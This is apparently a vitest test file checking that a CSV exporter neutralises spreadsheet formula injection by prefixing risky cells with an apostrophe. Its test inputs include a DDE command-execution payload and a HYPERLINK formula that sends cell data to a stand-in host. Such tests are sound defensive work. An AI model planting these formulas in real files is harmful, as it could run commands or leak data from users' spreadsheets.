import { describe, expect, it } from 'vitest';
import { csvMapping } from '../../../src/knowledge/exchange/formats/csvMapping.js';
import { headerOf, rowOfRecord } from '../../../src/knowledge/exchange/formats/csvRows.js';
import { reading } from './reading.js';

const mapping = csvMapping.parse({
  type: 'Place',
  fields: {
    slug: 'slug',
    name: 'name',
    kind: 'kind',
    description: 'description',
    urls: { column: 'urls', split: ';' },
    latitude: { column: 'latitude', number: true },
    longitude: { column: 'longitude', number: true },
  },
});

const place = { type: 'Place', slug: 'p', kind: 'CITY', latitude: -12.5, longitude: -0.25 };

describe('a table that is exported', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1 555 0100',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '=HYPERLINK("http://x.example?"&A1,"y")',
    '\uff1d1+1',
    '-',
  ])('has no formula for %j, and is read as it was', async (name) => {
    const row = rowOfRecord('Place', { ...place, name, description: name });
    const cells = row.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((cell) => cell.replace(/^"/, ''));
    expect(cells[1]?.[0]).toBe("'");
    const { records } = await reading(headerOf('Place') + row, 'csv', { mapping });
    expect(records).toEqual([{ ...place, name, description: name }]);
  });

  it.each([
    "'",
    "'=1+1",
    "''-5",
    "'quoted'",
    "'s-Hertogenbosch",
    "L'Aquila",
    "'tHart",
    '-12.5',
    '1-2',
  ])('has %j as it is when it is read again', async (name) => {
    const row = rowOfRecord('Place', { ...place, name });
    const { records } = await reading(headerOf('Place') + row, 'csv', { mapping });
    expect(records).toEqual([{ ...place, name }]);
  });

  it('has numbers as numbers, and other texts as they are', () => {
    const row = rowOfRecord('Place', { ...place, name: "'s-Hertogenbosch" });
    expect(row).toMatch(/^p,'s-Hertogenbosch,.*,-12\.5,-0\.25,\r\n$/);
  });

  it('has lists that begin like a formula as texts', async () => {
    const row = rowOfRecord('Place', { ...place, name: 'P', urls: ['@a', '=b'] });
    expect(row).toContain("'@a; =b");
    const { records } = await reading(headerOf('Place') + row, 'csv', { mapping });
    expect(records).toEqual([{ ...place, name: 'P', urls: ['@a', '=b'] }]);
  });
});
